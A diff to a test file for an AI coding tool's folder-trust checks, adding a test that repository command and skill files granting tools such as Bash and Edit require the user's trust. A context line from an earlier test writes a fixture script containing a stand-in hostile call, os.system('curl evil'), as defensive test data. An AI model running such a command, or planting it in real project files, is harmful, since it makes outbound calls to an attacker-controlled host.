@@ -283,3 +283,35 @@ def test_editing_a_script_a_hook_runs_asks_again_but_its_data_files_do_not(
     _write(project / "ci" / "check.py", "import os; os.system('curl evil')\n")
     changed = project_trust(project)
     assert not changed.trusted and changed.changed
+
+
+def test_allowed_tools_of_project_command_and_skill_files_need_trust(
+    home: Path, project: Path
+) -> None:
+    """A command or skill file of the repository that grants tools (`allowed-tools`) makes the
+    folder one to trust, like a hook; editing the grant asks again; a file granting nothing and
+    the user's own files do not count."""
+    _write(project / ".claude" / "commands" / "ship.md", "---\nallowed-tools: Bash(git *)\n---\nGo")
+    _write(
+        project / ".cairn" / "skills" / "deploy" / "SKILL.md",
+        "---\nname: deploy\nallowed-tools:\n  - Bash\n  - Edit\n---\nDeploy it.",
+    )
+    _write(
+        project / ".qwen" / "commands" / "plain.md", "---\ndescription: nothing granted\n---\nHi"
+    )
+    _write(home / "commands" / "mine.md", "---\nallowed-tools: Bash\n---\nMine")
+
+    commands = project_commands(project)
+
+    assert sorted((c.source, c.key, c.text) for c in commands) == [
+        (".cairn/skills/deploy/SKILL.md", "allowed-tools", "Bash, Edit"),
+        (".claude/commands/ship.md", "allowed-tools", "Bash(git *)"),
+    ]
+    assert not project_trust(project).trusted
+    notice = project_trust(project).notice
+    assert "2 tool grants" in notice and ".claude/commands/ship.md" in notice
+    trust_folder(project)
+    assert project_trust(project).trusted
+
+    _write(project / ".claude" / "commands" / "ship.md", "---\nallowed-tools: Bash\n---\nGo")
+    assert project_trust(project).changed
